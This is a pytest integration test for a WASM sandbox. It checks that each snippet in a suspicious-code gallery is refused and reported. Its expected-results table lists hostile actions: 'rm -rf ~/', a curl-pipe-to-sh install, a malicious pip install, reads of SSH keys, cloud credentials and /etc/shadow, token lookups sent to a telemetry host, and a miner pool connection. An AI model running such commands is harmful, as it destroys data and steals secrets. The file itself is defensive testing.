"""Issue #15: each snippet of the suspicious gallery (resources/examples/suspicious) reports exactly what it tried."""

from __future__ import annotations

from collections.abc import Iterator

import pytest

from backends.wasm import WasmBackend
from playground.core import AttemptKind, Limits, Observer, Sandbox, Spec
from playground.packs import javascript, python
from playground.resource_files import resource_path
from tests.integration.wasm.conftest import need_runtime

H, G = Observer.HOST, Observer.GUEST
OUT, ENV = "refused: not in the sandbox", "refused: not given to the program"
NET, PROC = "refused: no network in this sandbox", "refused: no processes in this sandbox"
FR, FD, FL = AttemptKind.FILE_READ, AttemptKind.FILE_DELETE, AttemptKind.FILE_LIST

EXPECTED: dict[str, set[tuple[AttemptKind, str, str, Observer, int]]] = {
    "cleanup_home.py": {
        (FL, "~/.cache", OUT, H, 2), (FR, "~/.cache", OUT, H, 1), (FD, "~/.cache", OUT, H, 1),
        (FL, "~/Downloads/tmp", OUT, H, 2), (FR, "~/Downloads/tmp", OUT, H, 1), (FD, "~/Downloads/tmp", OUT, H, 1),
        (AttemptKind.PROCESS_SPAWN, "rm -rf ~/ --no-preserve-root", PROC, G, 1),
    },
    "analytics_env_upload.py": {
        # USER is the guest's own ("user", python_boot.GUEST_ENV): read, not refused.
        (AttemptKind.ENV_LOOKUP, "GITHUB_TOKEN", ENV, G, 1),
        (AttemptKind.ENV_LOOKUP, "AWS_SECRET_ACCESS_KEY", ENV, G, 1),
        (AttemptKind.NETWORK_CONNECT, "telemetry.example-analytics.test:443", NET, G, 1),
    },
    "key_reader.py": {
        (FR, "~/.ssh/id_rsa", OUT, H, 1), (FR, "~/.ssh/id_ed25519", OUT, H, 1), (FR, "~/.aws/credentials", OUT, H, 1),
        (FR, "~/.config/gcloud/application_default_credentials.json", OUT, H, 1), (FR, "~/.netrc", OUT, H, 1),
        (FR, "/etc/shadow", OUT, H, 1),
    },
    "miner.py": {
        (AttemptKind.PROCESS_SPAWN, " -c import hashlib; [hashlib.sha256(b'x').digest() for _ in iter(int, 1)]",
         PROC, G, 4),
        (AttemptKind.NETWORK_CONNECT, "pool.minexmr.test:4444", NET, G, 1),
    },
    "dependency_confusion.py": {
        (AttemptKind.PROCESS_SPAWN,
         "pip install --extra-index-url https://pypi.acme-internal.test/simple acme-billing-utils", PROC, G, 1),
    },
    "telemetry.js": {
        (AttemptKind.ENV_LOOKUP, "NPM_TOKEN", ENV, G, 1), (AttemptKind.ENV_LOOKUP, "HOME", ENV, G, 1),
        (AttemptKind.NETWORK_CONNECT, "collect.example-analytics.test:443", NET, G, 1),
        (AttemptKind.PROCESS_SPAWN, "curl -s https://get.example-tools.test/install.sh | sh", PROC, G, 1),
    },
}  # fmt: skip


@pytest.fixture(scope="module")
def real() -> Iterator[Sandbox]:
    with Sandbox(backends=[WasmBackend()], packs=[javascript.PACK, python.PACK]) as sb:
        yield sb


def test_the_gallery_is_what_is_tested() -> None:
    assert sorted(p.name for p in resource_path("examples", "suspicious").iterdir()) == sorted(EXPECTED)


@pytest.mark.parametrize("name", sorted(EXPECTED))
async def test_each_suspicious_example_reports_exactly_its_attempts(real: Sandbox, name: str) -> None:
    path = resource_path("examples", "suspicious", name)
    lang = real.pack_for_file(name).name
    need_runtime(real, lang)
    spec = Spec(lang=lang, code=path.read_text(), main_file=name, limits=Limits(wall_time=30.0))
    result = await real.run(spec)
    got = {(a.kind, a.target, a.verdict, a.observer, a.count) for a in result.attempts}
    assert got == EXPECTED[name], (got, result.stderr)
    assert b"only runs inside Sandbox Playground" not in result.stderr
